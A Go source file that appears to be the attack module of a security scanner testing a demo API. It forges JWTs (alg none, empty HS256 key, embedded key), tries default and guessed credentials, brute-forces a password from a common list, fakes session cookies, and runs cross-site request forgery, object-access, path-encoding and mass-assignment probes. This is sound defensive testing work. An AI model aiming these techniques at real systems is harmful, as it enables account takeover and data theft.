package attack

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"regexp"
	"slices"
	"strings"
)

// reads are the operations that show something to those who may, those with
// objects first.
func (r *runner) reads() (out []*operation) {
	for _, o := range r.ops {
		if o.method == http.MethodGet && !o.public && !strings.HasSuffix(o.path, "/events") {
			out = append(out, o)
		}
	}
	slices.SortStableFunc(out, func(a, b *operation) int { return strings.Count(b.path, "{") - strings.Count(a.path, "{") })
	return out[:min(len(out), 12)]
}

// opened is what an operation shows to one who should not see it.
func opened(a *answer) string {
	if a.ok() && !a.refused() && len(a.body) > 2 {
		return fmt.Sprintf("%d: %s", a.status, cut(a.body, 60))
	}
	return ""
}

// authentication: nobody, forged proofs, guessed passwords, made-up sessions.
func (r *runner) authentication(ctx context.Context) {
	reads := r.reads()
	for _, o := range reads {
		r.try(ctx, rowAuthn, fmt.Sprintf("%s %s with no credentials", o.method, o.path), "none", func(ctx context.Context, s *session) (string, error) {
			a, err := s.raw(ctx, o.request(nil, "", ""))
			if err != nil {
				return "", err
			}
			return opened(a), nil
		})
	}
	if len(reads) > 0 {
		o := reads[0]
		for _, forged := range r.forgedCredentials() {
			r.try(ctx, rowAuthn, fmt.Sprintf("%s %s with a forged credential", o.method, o.path), forged.Name, func(ctx context.Context, s *session) (string, error) {
				a, err := s.raw(ctx, o.request(nil, "", "").as(forged))
				if err != nil {
					return "", err
				}
				return opened(a), nil
			})
		}
	}
	r.sessions(ctx)
}

// forgedCredentials are those that must open nothing: no signature, another's
// signature, another algorithm, another time, another audience.
func (r *runner) forgedCredentials() (out []*Caller) {
	bearer := func(name, token string) {
		out = append(out, &Caller{name, http.Header{"Authorization": {"Bearer " + token}}})
	}
	b64 := base64.RawURLEncoding
	claims := `{"iss":"` + r.issuer + `","sub":"carol","aud":"orders","client_id":"zq","iat":1700000000,"exp":4102444800,"jti":"zq","roles":["manager"],"scope":"orders:read orders:write admin:export"}`
	signature := b64.EncodeToString(make([]byte, 64))
	for _, c := range r.callers {
		raw, ok := strings.CutPrefix(c.Header.Get("Authorization"), "Bearer ")
		parts := strings.Split(raw, ".")
		if !ok || len(parts) != 3 {
			continue
		}
		payload, err := b64.DecodeString(parts[1])
		var all map[string]any
		if err != nil || json.Unmarshal(payload, &all) != nil {
			continue
		}
		all["sub"], all["roles"], all["exp"] = "carol", []string{"manager", "admin"}, 4102444800
		claims, signature = jsonText(all), parts[2]
		bearer("another's claims under a real signature", parts[0]+"."+b64.EncodeToString([]byte(claims))+"."+signature)
		bearer("a signature cut short", parts[0]+"."+parts[1]+"."+parts[2][:len(parts[2])/2])
		break
	}
	for _, alg := range []string{"none", "None", "nOnE"} {
		bearer("alg "+alg, b64.EncodeToString([]byte(`{"alg":"`+alg+`","typ":"at+jwt"}`))+"."+b64.EncodeToString([]byte(claims))+".")
	}
	bearer("HS256 with an empty key", b64.EncodeToString([]byte(`{"alg":"HS256","typ":"at+jwt"}`))+"."+b64.EncodeToString([]byte(claims))+"."+signature)
	bearer("a key of the token's own", b64.EncodeToString([]byte(`{"alg":"ES256","typ":"at+jwt","jwk":{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}}`))+"."+b64.EncodeToString([]byte(claims))+"."+signature)
	if r.mint != nil {
		for _, edit := range []string{"expired", "for another audience"} {
			if token, err := r.mint(edit); err == nil {
				bearer(edit+", well signed", token)
			}
		}
	}
	basic := base64.StdEncoding.EncodeToString([]byte("admin:admin"))
	return append(out,
		&Caller{"admin:admin", http.Header{"Authorization": {"Basic " + basic}}},
		&Caller{"a guessed API key", http.Header{"X-Api-Key": {"gk_test_0000000000000000"}}},
		&Caller{"a name in a header", http.Header{"X-User": {"carol"}, "X-Role": {"manager"}, "X-Forwarded-User": {"carol"}}},
	)
}

// guesses are passwords that people use; the demo's alice has the last of them.
var guesses = []string{
	"123456", "12345678", "qwerty", "111111", "abc123", "letmein", "monkey", "dragon", "iloveyou", "sunshine", "princess", "football", "welcome", "shadow",
	"superman", "michael", "master", "jennifer", "trustno1", "hunter2", "passw0rd", "baseball", "killer", "soccer", "charlie", "andrew", "michelle", "jordan", "password",
}

// cookieOf is the cookie that the demo's API gives a customer: anybody can make it.
func cookieOf(customer string) string {
	return "session=" + base64.RawURLEncoding.EncodeToString([]byte(customer))
}

// sessions tries what the demo's own signing in is worth.
func (r *runner) sessions(ctx context.Context) {
	if me := r.op("getMe"); me != nil {
		for _, customer := range []string{"carol", "bob"} {
			r.try(ctx, rowAuthn, me.method+" "+me.path+" with a session made up", customer, func(ctx context.Context, s *session) (string, error) {
				a, err := s.raw(ctx, request{method: me.method, target: me.path, header: http.Header{"Cookie": {cookieOf(customer)}}})
				if err != nil || !strings.Contains(a.body, `"`+customer+`"`) {
					return "", err
				}
				return customer + "'s data: " + cut(a.body, 50), nil
			})
		}
	}
	login := r.op("login")
	if login == nil {
		return
	}
	r.try(ctx, rowAuthn, login.method+" "+login.path+": guessing a password", fmt.Sprintf("%d guesses", len(guesses)), func(ctx context.Context, s *session) (string, error) {
		s.hurries = true
		for n, guess := range guesses {
			req := login.request(nil, "", "")
			req.body = jsonText(map[string]any{"email": "alice@example.com", "password": guess})
			a, err := s.send(ctx, req)
			if err != nil || a.refused() {
				return "", err
			}
			if a.ok() {
				return fmt.Sprintf("alice's password after %d guesses", n+1), nil
			}
		}
		return "", nil
	})
}

// forgery: what a page of another site can make a victim's browser send. Old
// browsers send no Origin with forms, and none sends Sec-Fetch-Site from an
// application's web view; what a gateway asks for must not depend on them.
func (r *runner) forgery(ctx context.Context) {
	change := r.op("changeEmail")
	if change == nil {
		return
	}
	for _, v := range []struct{ name, kind, body string }{
		{"a form", "application/x-www-form-urlencoded", "email=mallory%40evil.example"},
		{"a form that looks like JSON", "text/plain", `{"email":"mallory@evil.example","zq":"="}`},
		{"a form without a type", "", `{"email":"mallory@evil.example"}`},
		{"as JSON, as a page with the right to", "application/json", `{"email":"mallory@evil.example"}`},
	} {
		r.try(ctx, rowCSRF, change.method+" "+change.path+" from a page of another site, with alice's cookie", v.name, func(ctx context.Context, s *session) (string, error) {
			req := request{method: change.method, target: change.path, body: v.body, header: http.Header{"Cookie": {cookieOf("alice")}, "Referer": {"https://evil.example/prize.html"}}}
			if v.kind != "" {
				req.header.Set("Content-Type", v.kind)
			}
			a, err := s.raw(ctx, req)
			if err != nil || !a.ok() || !strings.Contains(a.body, "mallory@evil.example") {
				return "", err
			}
			req.body, req.header = `{"email":"alice@example.com"}`, http.Header{"Cookie": {cookieOf("alice")}, "Content-Type": {"application/json"}}
			_, err = s.raw(ctx, req) // as it was
			return "alice's address is now mallory@evil.example", err
		})
	}
}

// accessControl: others' objects, others' functions, fields nobody offered.
func (r *runner) accessControl(ctx context.Context) {
	alice := r.caller("alice")
	ask := func(variant string, o *operation, name, value string, want ...string) {
		if o == nil {
			return
		}
		p := place{in: "path", name: name}
		r.try(ctx, rowAccess, fmt.Sprintf("%s %s of somebody else", o.method, o.path), variant, func(ctx context.Context, s *session) (string, error) {
			a, err := s.raw(ctx, o.request(&p, value, "").as(alice))
			if err != nil || !a.ok() {
				return "", err
			}
			for _, text := range want {
				if strings.Contains(a.body, text) {
					return "bob's: " + cut(a.body, 60), nil
				}
			}
			return "", nil
		})
	}
	ask("bob, by alice", r.op("getCustomer"), "customerId", "bob", "bob@example.com")
	ask("carol, by alice", r.op("getCustomer"), "customerId", "carol", "carol@example.com")
	ask("bob's orders, by alice", r.op("listCustomerOrders"), "customerId", "bob", "Oak desk")
	ask("bob's order, by alice", r.op("getOrder"), "orderId", "ord_1004", "Oak desk")
	r.disguised(ctx)
	r.assignment(ctx)
	if export := r.op("exportAll"); export != nil {
		for _, c := range []*Caller{nil, alice} {
			who := "by nobody"
			if c != nil {
				who = "by " + c.Name
			}
			r.try(ctx, rowAccess, export.method+" "+export.path+", an administrator's", who, func(ctx context.Context, s *session) (string, error) {
				a, err := s.raw(ctx, export.request(nil, "", "").as(c))
				if err != nil {
					return "", err
				}
				return opened(a), nil
			})
		}
	}
	if refund := r.op("refundOrder"); refund != nil {
		r.try(ctx, rowAccess, refund.method+" "+refund.path+", support's", "by alice", func(ctx context.Context, s *session) (string, error) {
			a, err := s.raw(ctx, refund.request(nil, "", "").as(alice))
			if err != nil {
				return "", err
			}
			return opened(a), nil
		})
	}
	for _, o := range r.reads() {
		if !strings.Contains(o.path, "{") {
			continue // an export may be what it says
		}
		r.try(ctx, rowAccess, fmt.Sprintf("%s %s shows more than it should", o.method, o.path), "as who may", func(ctx context.Context, s *session) (string, error) {
			a, err := s.send(ctx, o.request(nil, "", ""))
			if err != nil || !a.ok() {
				return "", err
			}
			if m := exposed.FindString(a.body); m != "" {
				return "the answer has " + m, nil
			}
			return "", nil
		})
	}
}

// exposed are fields no caller should get, whoever it is.
var exposed = regexp.MustCompile(`"(?:password_hash|password|card_number|secret|ssn|pin)":`)

// disguised writes the path of an operation that is not for everybody in other ways.
func (r *runner) disguised(ctx context.Context) {
	reads := r.reads()
	if len(reads) == 0 {
		return
	}
	o := reads[len(reads)-1] // without parameters, where there is one
	if export := r.op("exportAll"); export != nil {
		o = export
	}
	target := o.request(nil, "", "").target
	path, query, has := strings.Cut(target, "?")
	last := strings.LastIndexByte(path, '/') + 1
	for _, v := range []struct{ name, path string }{
		{"a letter as an escape", path[:last] + fmt.Sprintf("%%%02x", path[last]) + path[last+1:]},
		{"the first letter as an escape", "/" + fmt.Sprintf("%%%02x", path[1]) + path[2:]},
	} {
		r.try(ctx, rowAccess, fmt.Sprintf("%s %s in disguise, by nobody", o.method, o.path), v.name, func(ctx context.Context, s *session) (string, error) {
			t := v.path
			if has {
				t += "?" + query
			}
			a, err := s.raw(ctx, request{method: o.method, target: t})
			if err != nil {
				return "", err
			}
			return opened(a), nil
		})
	}
}

// assignment sends fields that no form shows.
func (r *runner) assignment(ctx context.Context) {
	extra := map[string]any{"role": "manager", "credit": 1000000, "status": "delivered", "internal_margin": -1, "is_admin": true, "admin": true}
	for _, o := range r.ops {
		body, ok := o.body.(map[string]any)
		if !ok || o.bodyType != "application/json" {
			continue
		}
		for _, name := range slices.Sorted(maps.Keys(extra)) {
			if _, declared := body[name]; declared {
				continue
			}
			r.try(ctx, rowAccess, fmt.Sprintf("%s %s with a field it does not have", o.method, o.path), name, func(ctx context.Context, s *session) (string, error) {
				req := o.request(nil, "", "")
				more := maps.Clone(body)
				more[name] = extra[name]
				req.body = jsonText(more)
				a, err := s.send(ctx, req)
				if err != nil || !a.ok() {
					return "", err
				}
				var got map[string]any
				_ = json.Unmarshal([]byte(a.body), &got) // what is no object has no such field
				if got[name] == nil || fmt.Sprint(got[name]) != fmt.Sprint(extra[name]) {
					return "", nil
				}
				if s.target == r.bare {
					more["role"], more["credit"] = "customer", 100 // as it was
					delete(more, name)
					if name == "role" || name == "credit" {
						req.body = jsonText(more)
						_, err = s.send(ctx, req)
					}
				}
				return fmt.Sprintf("%s is now %v", name, extra[name]), err
			})
		}
	}
}
